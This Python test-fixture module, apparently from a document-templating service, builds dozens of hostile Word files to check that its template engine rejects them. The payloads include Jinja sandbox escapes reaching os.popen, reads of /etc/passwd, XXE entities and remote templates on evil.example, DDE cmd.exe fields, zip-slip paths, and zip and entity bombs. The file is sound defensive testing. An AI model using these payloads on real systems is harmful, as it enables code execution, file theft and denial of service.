"""Fifty templates that want more than to be filled: each is a way to build one, by name (reliability.md §4)."""

import io
import zipfile
from collections.abc import Callable

from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

MARKER = "/tmp/otklik-attack-marker"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
Attack = Callable[[], bytes]


def plain(text: str = "Договор {{ contract.no }}") -> bytes:
    document = Document()
    document.add_paragraph(text)
    return saved(document)


def saved(document) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def rebuilt(change: Callable[[dict[str, bytes]], None], base: bytes | None = None) -> bytes:
    """A package with its parts changed."""
    with zipfile.ZipFile(io.BytesIO(base or plain())) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


def _text(payload: str) -> Attack:
    return lambda: plain(payload)


def _header(payload: str) -> Attack:
    def build() -> bytes:
        document = Document()
        document.sections[0].header.paragraphs[0].text = payload
        document.sections[0].footer.paragraphs[0].text = payload
        return saved(document)

    return build


def _property(payload: str) -> Attack:
    def build() -> bytes:
        document = Document()
        document.core_properties.title = payload
        return saved(document)

    return build


def _split(payload: str) -> Attack:
    """Word cuts a text into runs wherever it likes; so may somebody on purpose."""

    def build() -> bytes:
        document = Document()
        paragraph = document.add_paragraph()
        for letter in payload:
            paragraph.add_run(letter)
        return saved(document)

    return build


def _part(name: str, data: bytes) -> Attack:
    return lambda: rebuilt(lambda parts: parts.update({name: data}))


def _relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> Attack:
    def change(parts: dict[str, bytes]) -> None:
        name = "word/_rels/document.xml.rels"
        office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        row = f'<Relationship Id="rX" Type="{office}/{kind}" Target="{target}"{mode}/></Relationships>'
        parts[name] = parts[name].replace(b"</Relationships>", row.encode())

    return lambda: rebuilt(change)


def _body(xml: str) -> Attack:
    def build() -> bytes:
        document = Document()
        document.element.body.insert(0, parse_xml(xml))
        return saved(document)

    return build


def _document(change: Callable[[bytes], bytes]) -> Attack:
    def inner(parts: dict[str, bytes]) -> None:
        parts["word/document.xml"] = change(parts["word/document.xml"])

    return lambda: rebuilt(inner)


def _doctype(inside: str, name: str = "&x;") -> Attack:
    def change(xml: bytes) -> bytes:
        head, rest = xml.split(b"?>", 1)
        return (
            head + b"?>" + f"<!DOCTYPE d [{inside}]>".encode() + rest.replace(b"<w:t>", f"<w:t>{name}".encode(), 1)
        )

    return _document(change)


def _type(old: str, new: str) -> Attack:
    def change(parts: dict[str, bytes]) -> None:
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(old.encode(), new.encode())

    return lambda: rebuilt(change)


def _bomb() -> bytes:
    return rebuilt(lambda parts: parts.update({"word/media/a.xml": b"<a>" + b" " * 90_000_000 + b"</a>"}))


def _entries() -> bytes:
    return rebuilt(lambda parts: parts.update({f"word/media/{n}.xml": b"<a/>" for n in range(3_000)}))


def _deep() -> bytes:
    inner = b"<w:p>" * 200_000 + b"</w:p>" * 200_000
    return _document(lambda xml: xml.replace(b"<w:body>", b"<w:body>" + inner))()


def _footnote() -> bytes:
    text = "<w:p><w:r><w:t>{{ cycler }}</w:t></w:r></w:p>"
    note = f'<w:footnotes {W}><w:footnote w:id="2">{text}</w:footnote></w:footnotes>'
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"

    def change(parts: dict[str, bytes]) -> None:
        parts["word/footnotes.xml"] = note.encode()
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"</Types>", f'<Override PartName="/word/footnotes.xml" ContentType="{kind}"/></Types>'.encode()
        )

    return rebuilt(change)


def _instruction(field: str, *, split: bool = False) -> Attack:
    pieces = list(field) if split else [field]
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return _body(f"<w:p {W}>{begin}{runs}{end}</w:p>")


_SHELL = f"os.popen('touch {MARKER}').read()"
ATTACKS: dict[str, Attack] = {
    # Jinja's own ways out
    "globals of cycler": _text("{{ cycler.__init__.__globals__." + _SHELL + " }}"),
    "globals of joiner": _text("{{ joiner.__init__.__globals__." + _SHELL + " }}"),
    "globals of namespace": _text("{{ namespace.__init__.__globals__." + _SHELL + " }}"),
    "subclasses of a text": _text("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    "class of a field": _text("{{ client.full.__class__ }}"),
    "a method of a field": _text("{{ client.full.upper() }}"),
    "format of a field": _text("{{ client.full.format(client) }}"),
    "attr filter": _text("{{ client|attr('__class__') }}"),
    "attr by parts": _text("{{ client['__cla' ~ 'ss__'] }}"),
    "subscript": _text("{{ client['full'] }}"),
    "self": _text("{{ self.__init__.__globals__ }}"),
    "config": _text("{{ config.items() }}"),
    "unknown field": _text("{{ client.password }}"),
    "unknown group": _text("{{ settings.secret_key }}"),
    "unknown filter": _text("{{ client.full|pprint }}"),
    "filter with arguments": _text("{{ client.full|upper('x') }}"),
    "filter of another type": _text("{{ client.phone|words }}"),
    "a long text": _text("{{ 'a' * 100000000 }}"),
    "a large power": _text("{{ 9 ** 9 ** 9 }}"),
    "range": _text("{% for a in range(999999999) %}x{% endfor %}"),
    "loop in loop": _text(
        "{% for a in pay.schedule %}{% for b in pay.schedule %}x{% endfor %}{% endfor %}"
    ),
    "loop over a field": _text("{% for a in client.full %}x{% endfor %}"),
    "recursive loop": _text("{% for a in pay.schedule recursive %}{{ loop(a) }}{% endfor %}"),
    "set": _text("{% set x = cycler %}{{ x }}"),
    "macro": _text("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}"),
    "include": _text("{% include '/etc/passwd' %}"),
    "import": _text("{% import 'os' as os %}"),
    "extends": _text("{% extends '/etc/passwd' %}"),
    "condition that calls": _text("{% if cycler.__init__ %}x{% endif %}"),
    "a comment that hides": _text("{# {{ cycler }} #}"),
    "raw": _text("{% raw %}{{ cycler }}{% endraw %}"),
    "unclosed": _text("{{ client.full "),
    "cell colour": _text("{% cellbg cycler.__init__ %}"),
    "in header and footer": _header("{{ cycler.__init__ }}"),
    "in a property": _property("{{ cycler.__init__.__globals__." + _SHELL + " }}"),
    "in a footnote": _footnote,
    "in pieces": _split("{{ cycler.__init__.__globals__." + _SHELL + " }}"),
    "in an attribute": _body(f'<w:p {W}><w:bookmarkStart w:id="1" w:name="{{{{cycler}}}}"/></w:p>'),
    # Code, links out, fields of Word
    "macros": _part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
    "macros by type": _type(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    ),
    "an embedded object": _part("word/embeddings/oleObject1.bin", b"MZ"),
    "ActiveX": _part("word/activeX/activeX1.xml", b"<a/>"),
    "a template elsewhere": _relation("attachedTemplate", "http://evil.example/t.dotm"),
    "a picture elsewhere": _relation("image", "http://evil.example/p.png"),
    "a file of the server": _relation("image", "file:///etc/passwd"),
    "a network share": _relation("image", "\\\\evil\\share\\p.png", ""),
    "a part outside": _relation("image", "../../../etc/passwd", ""),
    "another document": _body(f'<w:altChunk {W} {nsdecls("r")} r:id="rId1"/>'),
    "DDE": _instruction("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
    "DDE in pieces": _instruction("DDE cmd", split=True),
    "include text": _instruction('INCLUDETEXT "/etc/passwd"'),
    "include picture": _body(f'<w:p {W}><w:fldSimple w:instr="INCLUDEPICTURE http://evil.example/p.png"/></w:p>'),
    # XML and archives
    "an entity bomb": _doctype("".join(
        f'<!ENTITY x{n} "{f"&amp;x{n - 1};" * 10 if n else "ha"}">' for n in range(9)), "&x8;"),
    "an outside entity": _doctype('<!ENTITY x SYSTEM "file:///etc/passwd">'),
    "a parameter entity": _doctype('<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;', ""),
    "another encoding": _document(lambda xml: xml.decode().replace('"UTF-8"', '"UTF-16"').encode("utf-16")),
    "a zip bomb": _bomb,
    "thousands of entries": _entries,
    "a way out of the archive": _part("../../etc/cron.d/x", b"<a/>"),
    "a deep tree": _deep,
    "no archive": lambda: b"{\\rtf1 hello}",
    "an empty archive": lambda: rebuilt(dict.clear),
}  # fmt: skip
